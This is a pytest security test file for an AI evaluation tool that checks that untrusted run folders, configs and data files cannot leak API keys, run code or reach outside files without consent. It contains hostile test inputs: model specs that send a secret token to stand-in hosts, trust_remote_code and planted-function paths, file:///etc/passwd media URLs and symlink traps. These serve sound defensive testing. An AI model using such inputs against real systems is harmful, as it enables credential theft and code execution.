"""Files of somebody else: nothing is sent or run without the user's word; no key is on disk or screen."""

import contextlib
import io
import json
import os
import shutil
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import msgspec
import pytest
from PIL import Image

import vidence
from servers.canary import Canary, canary
from vidence.cli.main import main
from vidence.engine.plan import Plan, read_plan, write_plan
from vidence.errors import TrustError

CANARY = "canary_7f3e55aa"
OTHER = "canary_of_openai_99"
HERBENCH = Path(__file__).parents[1] / "golden" / "makers" / "herbench"
Command = Callable[..., tuple[int, str]]


@pytest.fixture
def server() -> Iterator[Canary]:
    with canary() as started:
        yield started


@pytest.fixture
def command(tmp_path, monkeypatch, server) -> Command:
    """``vidence`` in a folder; the code and all that it said. Other machines are the canary, too."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("VIDENCE_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("SECRET_TOKEN", CANARY)
    monkeypatch.setenv("OPENAI_API_KEY", OTHER)
    for name in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
        monkeypatch.setenv(name, server.address)
    for name in ("no_proxy", "NO_PROXY", "OPENAI_BASE_URL"):
        monkeypatch.delenv(name, raising=False)

    def run(*words: str) -> tuple[int, str]:
        said = io.StringIO()
        monkeypatch.setattr(sys, "argv", ["vidence", *words])
        with (
            contextlib.redirect_stdout(said),
            contextlib.redirect_stderr(said),
            pytest.raises(SystemExit) as end,
        ):
            main(words)
        return int(end.value.code or 0), said.getvalue()

    return run


@pytest.fixture
def questions(tmp_path) -> Path:
    rows = [
        {"item_id": f"q{i}", "question": f"Question {i}?", "choices": ["x", "y"], "answer": "A"}
        for i in range(4)
    ]
    path = tmp_path / "q.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    return path


@pytest.fixture
def stranger(command, questions, tmp_path, monkeypatch) -> Callable[..., Path]:
    """A run folder as another person made it: a whole plan, and nothing answered yet."""
    code, said = command(
        *("run", "table", "--data", str(questions), "--model", "baseline:constant?letter=A"),
        *("--out", "theirs", "--no-page"),
    )
    assert code == 0, said
    plan, facts = read_plan(tmp_path / "theirs")
    number = iter(range(1000))

    def make(**changes: object) -> Path:
        folder = tmp_path / f"theirs-{next(number)}"
        folder.mkdir()
        write_plan(folder, msgspec.convert(msgspec.to_builtins(plan) | changes, Plan), facts)
        return folder

    return make


def evil_plans(server: Canary, tmp_path: Path) -> dict[str, dict[str, object]]:
    code = tmp_path / "evil"
    shutil.rmtree(code, ignore_errors=True)
    code.mkdir()
    (code / "configuration_evil.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n")
    auto = {"AutoConfig": "configuration_evil.C"}
    (code / "config.json").write_text(json.dumps({"model_type": "evil", "auto_map": auto}))
    (code / "f.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\ndef f(prompt):\n    return 'A'\n")
    function = f"{code / 'f.py'}:f"
    here, away = f"{server.address}/v1", "http://elsewhere.example/v1"
    return {
        "another key, to this machine": {"model": f"openai:m?base_url={here}&api_key_env=SECRET_TOKEN"},
        "another key, to the provider": {"model": "openai:m?api_key_env=SECRET_TOKEN"},
        "the usual key, elsewhere": {"model": f"openai:m?base_url={away}"},
        "the usual key, over plain http": {"model": "openai:m?base_url=http://api.openai.com/v1"},
        "the provider's name, another port": {"model": "openai:m?base_url=https://api.openai.com:8443/v1"},
        "a name that begins like this machine": {
            "model": "openai:m?base_url=http://127.0.0.1.elsewhere.example/v1"
        },
        "all addresses of this machine": {"model": "openai:m?base_url=http://0.0.0.0:1/v1"},
        "an escaped address": {"model": "openai:m?base_url=http:%2F%2Felsewhere.example%2Fv1"},
        "anthropic elsewhere": {"model": f"anthropic:m?base_url={away.removesuffix('/v1')}"},
        "gemini with another key": {"model": "gemini:m?api_key_env=SECRET_TOKEN"},
        "a judge": {"judge_models": [f"openai:j?base_url={here}&api_key_env=SECRET_TOKEN"]},
        "the second judge": {"judge_models": ["openai:j", f"openai:k?base_url={away}"]},
        "a selector that asks": {"selector": f"frag-scores:model:openai:m?embedder.base_url={away}"},
        "a selector that asks, escaped": {
            "selector": "frag-scores?embedder=model:openai:m%3Fapi_key_env%3DSECRET_TOKEN"
        },
        "code of a folder": {"model": f"transformers:{code}?trust_remote_code=true"},
        "code, said otherwise": {"model": f"transformers:{code}?trust_remote_code=1"},
        "code in the engine": {"model": f'vllm:{code}?engine={{"worker_cls":"evil.Worker"}}'},
        "a function for a model": {"model": f"python:{function}"},
        "a function by another spelling": {"model": function},
        "a function as an option": {"model": f"python?function={function.replace(':', '%3A')}"},
        "a function for a judge": {"judge_models": [f"python:{function}"]},
        "a function for a selector": {"selector": function},
        "a function that a selector asks": {"selector": f"frag-scores:model:python:{function}"},
        "a function for a parser": {"parser": f"python:{function}"},
        "a function for a parser of texts": {"text_parser": function},
        "a function for a strategy": {"strategy": f"python:{function}"},
        "a reward model with another key": {
            "strategy": f"best-of-n?reward=openai:m%3Fbase_url={here}%26api_key_env%3DSECRET_TOKEN"
        },
        "a reward model elsewhere": {"strategy": f"best-of-n?m=1&reward=openai:m?base_url={away}"},
        "the plan's model, changed for the reward": {
            "model": "openai:m",
            "strategy": f"best-of-n?reward=+base_url={away}",
        },
        "a function for a reward": {"strategy": f"best-of-n?reward=python:{function}"},
        "a function for a reward by another spelling": {"strategy": f"best-of-n?reward={function}"},
        "media of a bucket": {"media": "s3://elsewhere/videos"},
        "media of this machine's web server": {"media": f"{server.address}/videos"},
        "media of a server for its questions": {"media_at": ["https://elsewhere.example"]},
        "a file elsewhere": {"memory": str(tmp_path / "elsewhere" / "m.sqlite")},
    }


def test_a_strangers_run_folder_gets_nothing_without_the_word(
    command, stranger, server, tmp_path, record_attack
):
    plans = evil_plans(server, tmp_path)
    tried, held = 0, []
    for name, changes in plans.items():
        folder = stranger(**changes)
        for words in (("resume", str(folder)), ("diagnose", "modality", str(folder))):
            tried += 1
            code, said = command(*words)
            if code == 2 and "--trust" in said and "your consent" in said:
                held.append((name, words[0]))
        tried += 1
        with pytest.raises(TrustError):
            vidence.diagnose("modality", folder)
        held.append((name, "python"))
    record_attack("a stranger's run folder", tried, len(held))
    assert len(held) == tried
    assert server.seen == []
    assert not (tmp_path / "ran").exists()
    assert not (tmp_path / "elsewhere").exists()


def test_a_judging_writes_no_memory_and_makes_no_plan_ones_own(command, stranger, tmp_path, server):
    folder = stranger(memory=str(tmp_path / "elsewhere" / "m.sqlite"))
    code, said = command("replies", "judge", str(folder), "--judge-model", "baseline:constant?letter=A")
    assert (code, "your consent" in said) == (2, True)
    assert not (tmp_path / "elsewhere").exists()
    folder = stranger(model="openai:m?api_key_env=SECRET_TOKEN")
    command("replies", "judge", str(folder), "--judge-model", "baseline:constant?letter=A", "--no-page")
    code, said = command("resume", str(folder))
    assert (code, "your consent" in said, server.seen) == (2, True, [])


def test_a_parser_of_a_stranger_runs_neither_in_a_judging_nor_in_a_report(
    command, stranger, server, tmp_path, questions
):
    evil_plans(server, tmp_path)
    for parser in ("parser", "text_parser"):
        folder = stranger(**{parser: f"python:{tmp_path / 'evil' / 'f.py'}:f"})
        shutil.copy(tmp_path / "theirs" / "run.sqlite", folder)
        code, said = command(
            "replies", "judge", str(folder), "--judge-model", "baseline:constant?letter=A", "--no-page"
        )
        assert (code, "your consent" in said) == (2, True)
        code, said = command("report", str(folder), "--html", "page.html")
        assert code == 0, said
    assert not (tmp_path / "ran").exists()


def test_ones_own_function_is_taken_up_until_its_file_changes(command, questions, tmp_path):
    file = tmp_path / "mine.py"
    file.write_text("def answer(prompt):\n    return 'A'\n")
    words = (
        "run",
        "table",
        "--data",
        str(questions),
        "--model",
        "mine.py:answer",
        "--out",
        "mine",
        "--no-page",
    )
    assert command(*words)[0] == 0
    assert command("resume", "mine", "--no-page")[0] == 0
    file.write_text("def answer(prompt):\n    return 'B'\n")
    code, said = command("resume", "mine", "--no-page")
    assert (code, "your consent" in said, f"the Python code of the file {file}" in said) == (2, True, True)


@pytest.mark.parametrize(
    "line",
    [
        'a = "openai:m?base_url=http://elsewhere.example/v1"',
        'a = "openai:m?api_key_env=SECRET_TOKEN"',
        'a = {spec = "openai:m?api_key_env=SECRET_TOKEN", price_in = 1.0}',
        'a = "transformers:EVIL?trust_remote_code=true"',
        'a = "python:EVIL/f.py:f"',
        'a = "EVIL/f.py:f"',
    ],
)
def test_a_strangers_making_configuration_gets_nothing_without_the_word(command, server, tmp_path, line):
    evil_plans(server, tmp_path)
    shutil.copytree(HERBENCH, tmp_path / "set")
    config = tmp_path / "set" / "config.toml"
    line = line.replace("EVIL", str(tmp_path / "evil"))
    config.write_text(config.read_text() + f"\n[models]\n{line}\n")
    code, said = command("make", "herbench", str(config), "--out", "made")
    assert (code, "your consent" in said, server.seen) == (2, True, [])
    with pytest.raises(TrustError, match="trust=True"):
        vidence.make("herbench", config, tmp_path / "made")
    assert not (tmp_path / "ran").exists()


def sent_tokens(server: Canary) -> int:
    return sum(CANARY in one for one in server.seen)


def test_ones_own_run_is_taken_up_without_a_flag(command, questions, server, tmp_path):
    model = f"openai:m?base_url={server.address}/v1&api_key_env=SECRET_TOKEN"
    code, said = command(
        *("run", "table", "--data", str(questions), "--model", model, "--out", "mine", "--no-page")
    )
    assert (code, sent_tokens(server)) == (0, 4), said
    os.unlink(tmp_path / "mine" / "run.sqlite")
    shutil.rmtree(tmp_path / "cache")
    code, said = command("resume", "mine", "--no-page", "--concurrency", "2")
    assert (code, sent_tokens(server)) == (0, 8), said


def test_the_word_is_given_once(command, questions, server, tmp_path, monkeypatch):
    model = f"openai:m?base_url={server.address}/v1&api_key_env=SECRET_TOKEN"
    monkeypatch.setenv("VIDENCE_STATE", str(tmp_path / "state-of-another"))
    command(*("run", "table", "--data", str(questions), "--model", model, "--out", "theirs", "--no-page"))
    monkeypatch.setenv("VIDENCE_STATE", str(tmp_path / "state"))
    os.unlink(tmp_path / "theirs" / "run.sqlite")
    shutil.rmtree(tmp_path / "cache")
    server.seen.clear()
    assert command("resume", "theirs")[0] == 2
    assert server.seen == []
    code, said = command("resume", "theirs", "--trust", "--no-page")
    assert (code, sent_tokens(server)) == (0, 4), said
    assert command("resume", "theirs", "--no-page")[0] == 0


def test_what_the_settings_allow_needs_no_flag(command, stranger, server, tmp_path, monkeypatch):
    settings = tmp_path / "settings.toml"
    monkeypatch.setenv("VIDENCE_SETTINGS", str(settings))
    folder = stranger(model="openai:m?base_url=https://lab.example/v1&api_key_env=SECRET_TOKEN")
    settings.write_text('[hosts]\nOTHER_KEY = ["lab.example"]\nSECRET_TOKEN = ["lab.example:8443"]\n')
    assert "your consent" in command("resume", str(folder))[1]
    settings.write_text('[hosts]\nSECRET_TOKEN = ["lab.example"]\n')
    code, said = command("resume", str(folder))
    assert (code, "your consent" in said) == (2, False)  # the folder does not hold together: another identity
    assert "holds another run" in said or "model is a different one" in said, said
    settings.write_text("hosts = 3\n")
    assert "settings.toml:1: hosts: 3 found; expected a table" in command("resume", str(folder))[1]


ECHOES = ("content", "reasoning_content", "refusal", "model", "error", "not-json", "reason")


def test_a_key_that_is_sent_back_is_nowhere(command, questions, server, tmp_path, record_attack):
    held = 0
    for echo in ECHOES:
        server.echo = echo
        model = f"openai:m{echo}?base_url={server.address}/v1&api_key_env=SECRET_TOKEN"
        judged = ("--judge-model", model.replace("openai:m", "openai:j")) if echo == "content" else ()
        _, said = command(
            *("run", "table", "--data", str(questions), "--model", model, "--out", f"run-{echo}"),
            *("--set", "attempts=1", *judged),
        )
        more = ""
        if echo in {"content", "model"}:
            code, more = command("report", f"run-{echo}", "--html", "all.html", "--csv", "all.csv")
            assert code == 0, more
        files = [path for path in tmp_path.rglob("*") if path.is_file()]
        held += CANARY not in said + more and not any(CANARY.encode() in p.read_bytes() for p in files)
    record_attack("a server that sends the key back", len(ECHOES), held)
    assert sent_tokens(server) > 0
    assert held == len(ECHOES)


@pytest.mark.parametrize(
    "spec",
    [
        f"openai:m?base_url=http://u:{CANARY}@h/v1",
        f"openai:m?base_url=http://h/v1?key={CANARY}",
        f"openai:m?api_key_env=sk-{CANARY}",
        f"openai:{CANARY}?api_key_env=SECRET_TOKEN",
        f"openai:m?{CANARY}-x",
        f'openai:m?extra={{"headers":{{"Authorization":"Bearer {CANARY}"}}}}',
        f'openai:m?extra={{"api_key":"{CANARY}"}}',
    ],
)
def test_a_spec_with_a_key_is_not_shown(command, questions, spec, tmp_path, server):
    for words in (
        ("run", "table", "--data", str(questions), "--model", spec),
        ("run", "table", "--data", str(questions), "--model", "openai:m", "--judge-model", spec),
        ("diagnose", "modality", "table", "--data", str(questions), "--model", spec),
    ):
        code, said = command(*words)
        assert code == 2
        assert CANARY not in said
    assert not (tmp_path / "runs").exists()
    assert server.seen == []


@pytest.mark.parametrize(
    "name",
    ["plan.toml", "plan.toml.new", "run.sqlite", "run.sqlite-wal", "run.sqlite-journal", "lock.sqlite"],
)
def test_nothing_is_written_through_a_link_in_a_run_folder(command, stranger, tmp_path, name):
    folder, victim = stranger(), tmp_path / "victim"
    victim.write_bytes(b"mine")
    if name == "plan.toml":
        (folder / name).rename(victim)
    (folder / name).symlink_to(victim)
    before = victim.read_bytes()
    for words in (
        ("resume", str(folder)),
        ("diagnose", "modality", str(folder)),
        ("replies", "judge", str(folder), "--judge-model", "baseline:random"),
    ):
        code, said = command(*words)
        assert (code, "is a link" in said) == (2, True), said
        assert victim.read_bytes() == before


def test_what_was_shown_and_said_is_private(command, questions, tmp_path):
    before = os.umask(0o022)
    try:
        command(
            *("run", "table", "--data", str(questions), "--model", "baseline:constant?letter=A"),
            *("--out", "deep/mine", "--no-page"),
        )
    finally:
        os.umask(before)
    rights = {
        path.relative_to(tmp_path).as_posix(): path.stat().st_mode & 0o777
        for folder in ("deep/mine", "cache")
        for path in (tmp_path / folder, *(tmp_path / folder).rglob("*"))
        if not path.is_relative_to(tmp_path / "cache" / "terms-shown")
    }
    assert {"deep/mine/plan.toml", "deep/mine/run.sqlite", "cache/replies.sqlite"} <= rights.keys()
    assert {name: right for name, right in rights.items() if right & 0o077} == {}


def test_media_outside_the_folder_are_named_once_and_can_be_refused(command, server, tmp_path, record_attack):
    secret, data = tmp_path / "secret", tmp_path / "data"
    for folder in (secret / "frames", data / "frames"):
        folder.mkdir(parents=True)
    Image.new("RGB", (32, 32), "red").save(secret / "a.png")
    shutil.copy(secret / "a.png", secret / "frames" / "1.png")
    for link in ("link.png", "frames/1.png"):
        (data / link).symlink_to(secret / "a.png")
    media = [
        {"path": str(secret / "a.png"), "kind": "image"},
        {"path": "../secret/a.png", "kind": "image"},
        {"path": "link.png", "kind": "image"},
        {"path": "frames", "kind": "frames"},
        {"path": "../secret/frames", "kind": "frames"},
    ]
    places = ("../secret/a.png", "h/../../secret/a.png")
    urls = [{"url": f"http://{place}", "kind": "image"} for place in places]
    rows = [
        {"item_id": f"q{i}", "question": f"{i}?", "choices": ["x", "y"], "answer": "A", "media": [one]}
        for i, one in enumerate([*media, *urls])
    ]
    (data / "q.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    run = ("run", "table", "--data", "data/q.jsonl", "--model", f"openai:m?base_url={server.address}/v1")
    code, said = command(
        *run, "--out", "inside", "--set", "media_inside=true", "--selector", "all", "--no-page"
    )
    refused = code == 2 and "5 media lie outside" in said and server.seen == []
    code, said = command(*run, "--out", "outside", "--selector", "all", "--no-page")
    named = said.count("media lie outside") == 1 and str(secret / "a.png") in said
    left_out = said.count("leads out of the media folder") >= len(urls)
    record_attack("media outside the folder", len(rows), len(rows) * (refused and named and left_out))
    assert (refused, named, left_out) == (True, True, True), said
    assert (code, len(server.seen)) == (3, len(media))


def test_addresses_in_questions_are_asked_only_where_the_user_names_them(
    command, server, tmp_path, record_attack
):
    paths = [
        f"{server.address}/a.png",
        "s3://elsewhere/a.png",
        "hf://datasets/a/b/c.png",
        "gs://elsewhere/a.png",
    ]
    signed = f"{server.address}/a.png?X-Amz-Signature={CANARY}"
    run = (
        "run",
        "table",
        "--data",
        "q.jsonl",
        "--model",
        f"openai:m?base_url={server.address}/v1",
        "--no-page",
    )
    audit = ("items", "audit", "q.jsonl")
    held = []
    for path in (*paths, signed, f"http://me:{CANARY}@127.0.0.1/a.png", "file:///etc/passwd"):
        media = [{"path": path, "kind": "image"}]
        row = {"item_id": "q", "question": "?", "choices": ["x", "y"], "answer": "A", "media": media}
        (tmp_path / "q.jsonl").write_text(json.dumps(row))
        for words in ((*run, "--out", "run"), audit):
            code, said = command(*words)
            reason = "only with your consent" if path in paths else "cannot be used"
            held.append(code == 2 and reason in said and CANARY not in said)
    record_attack("addresses in questions", len(held), sum(held))
    assert all(held)
    assert server.seen == []
    kept = [path for path in tmp_path.rglob("*") if path.is_file() and path.name != "q.jsonl"]
    assert not any(CANARY.encode() in path.read_bytes() for path in kept)
